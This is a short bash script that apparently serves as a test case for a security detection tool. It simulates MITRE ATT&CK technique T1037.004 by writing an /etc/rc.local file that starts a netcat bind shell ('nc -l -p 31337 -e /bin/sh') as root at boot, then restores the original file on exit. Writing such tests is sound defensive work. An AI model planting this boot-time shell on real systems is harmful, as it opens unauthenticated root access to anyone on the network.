#!/usr/bin/env bash
# tactic: persistence
# technique: T1037.004 Boot or Logon Initialization Scripts: RC Scripts
# behaviour: an admin creates /etc/rc.local to start a listener at boot (removed afterwards)
# as: root
# expect: persistence
set -u
f=/etc/rc.local
if [ -e "$f" ]; then cp -p "$f" "$SNTL_TMP/rc"; trap 'cp -p "$SNTL_TMP/rc" "$f"' EXIT; else trap 'rm -f "$f"' EXIT; fi
printf '#!/bin/sh\nnc -l -p 31337 -e /bin/sh &\nexit 0\n' > "$f"
chmod +x "$f"
